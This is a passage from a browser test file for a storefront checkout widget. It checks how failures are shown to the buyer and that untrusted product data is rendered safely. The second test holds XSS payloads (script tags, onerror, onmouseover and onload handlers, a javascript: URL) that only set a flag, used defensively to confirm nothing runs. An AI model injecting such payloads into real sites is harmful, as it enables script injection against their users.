  await next();
  await next();
  await next();
  await wizard.getByRole('radio', { name: /^Pay in full/ }).check();
  await next();
  await wizard.getByRole('textbox', { name: 'First name' }).fill('Sam');
  await wizard.getByRole('textbox', { name: 'Last name' }).fill('Lee');
  await wizard.getByRole('textbox', { name: 'E-mail address' }).fill('sam@home.example');
  await wizard.getByRole('textbox', { name: 'Phone number' }).fill('07700 900123');
  return { wizard, next };
}

describe('shop answers with errors (Storefront API)', () => {
  it('shows every checkout failure as its buyer message with a way on ("Try again" or Continue), fires evc-error with its code, runs nothing, stays on the page', async () => {
    const opened = await openShopPage();
    const { page, fail } = opened;
    const host = page.locator('#shop');
    const { wizard, next } = await toLastStep(host);
    const pageUrl = page.url();
    for (const [index, { name, answer, code }] of SHOP_FAILURES.entries()) {
      fail('CartCreate', answer === 'javascript-checkout' ? scriptCheckoutUrl : answer);
      const before = (await evcErrors(page)).length;
      // The way on: "Try again" where trying again can help (the shop busy or down), else Continue
      // once the buyer has looked at their details.
      const retry = host.getByRole('button', { name: 'Try again' });
      if (index > 0 && (await retry.count()) > 0) await retry.click();
      else await next();
      // The failure takes focus, as a group named by its message.
      const alert = host.getByRole('group', { name: BUYER_MESSAGES[code] });
      await alert.waitFor().catch(async (error) => assert.fail(`${name}: ${error.message.split('\n')[0]}; pwned=${await pwned(page)}`));
      if (code === 'HTTP_ERROR') await alert.getByRole('button', { name: 'Try again' }).waitFor();
      else assert.equal(await wizard.getByRole('button', { name: /^Continue( to checkout)?$/ }).last().isEnabled(), true, `${name}: Continue is the way on`);
      const reported = (await evcErrors(page)).slice(before);
      assert.deepEqual(reported.map((error) => [error.code, error.message]), [[code, BUYER_MESSAGES[code]]], `${name}: one evc-error`);
      assert.equal(page.url(), pageUrl, `${name}: still on the page`);
      assert.equal(await pwned(page), undefined, `${name}: nothing ran`);
      assert.deepEqual(await dangerousMarkup(host), [], `${name}: no markup from the shop`);
    }
    // The shop answers again: Continue completes the checkout.
    await next();
    await page.waitForURL(/\/demo-checkout\//);
    assert.equal(opened.queued.length, 0);
    await assertHarmless(opened);
    assert.deepEqual(opened.errors.filter((error) => !resourceFailure(error)), []);
    await page.close();
  });

  it('shows a product whose title, description and image are markup and script as text, never running them', async () => {
    const opened = await openShopPage();
    const { page, fail } = opened;
    const product = {
      id: 'gid://shopify/Product/46100000011',
      title: '<img src=x onerror="window.__pwned=1">Installation',
      description: '<script>window.__pwned=1</script><b onmouseover="window.__pwned=1">Fitted by our own engineers.</b>',
      descriptionHtml: '<script>window.__pwned=1</script>',
      media: { nodes: [{ image: { url: 'javascript:window.__pwned=1', altText: '<svg onload=window.__pwned=1>', width: 10, height: 10 }, previewImage: null }] },
    };
    fail('ProductDetails', json({ data: { product } }));
    const host = page.locator('#shop');
    await host.getByRole('button', { name: 'Continue' }).click();
    const wizard = host.locator('dialog.evc-wizard');
    await wizard.getByRole('radio', { name: '7kW socket' }).check();
    await wizard.getByRole('button', { name: /^Continue( to checkout)?$/ }).last().click();
    // The description is shown as text; the image, a javascript: URL, is left out (so is its alt text).
    await wizard.getByText(product.description).first().hover();
    assert.equal(await host.evaluate((node) => node.shadowRoot.querySelectorAll('img[alt*="Installation"]').length), 0);
    assert.deepEqual(await dangerousMarkup(host), []);
    await assertHarmless(opened);
    assert.deepEqual(opened.errors, []);
    await page.close();
  });
});
